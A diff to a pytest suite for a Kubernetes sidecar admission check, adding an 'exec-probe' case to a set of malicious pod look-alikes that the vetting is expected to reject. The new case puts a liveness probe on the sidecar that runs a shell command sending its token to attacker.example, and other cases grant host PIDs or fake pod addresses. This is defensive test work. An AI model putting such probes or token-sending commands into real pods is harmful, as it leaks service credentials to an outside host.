@@ -200,6 +200,13 @@ def _host_pids(pod: dict[str, Any]) -> None:
     pod["spec"]["hostPID"] = True
 
 
+def _exec_probe(pod: dict[str, Any]) -> None:
+    # The real sidecar, but the kubelet runs the pod author's command in it, beside
+    # its token. Admitted by the vetting before it checked probes and hooks.
+    manifests.sidecar(pod)["livenessProbe"] = {
+        "exec": {"command": ["sh", "-c", "send-my-token-to https://attacker.example"]}}
+
+
 def _made_up_pod_addresses(pod: dict[str, Any]) -> None:
     # The real sidecar, told its pod has other addresses (plain values, not
     # status.podIPs): its refusal of upstreams resolving to its own pod then
@@ -214,7 +221,7 @@ def _made_up_pod_addresses(pod: dict[str, Any]) -> None:
 #: One way each to make the injected shape a look-alike with the allowed image,
 #: so only the vetting of the sidecar and its pod can tell.
 LOOKALIKES = {"own-command": _own_command, "made-up-pod-addresses": _made_up_pod_addresses,
-              "host-pids": _host_pids}
+              "host-pids": _host_pids, "exec-probe": _exec_probe}
 
 
 @pytest.mark.parametrize("lookalike", sorted(LOOKALIKES))
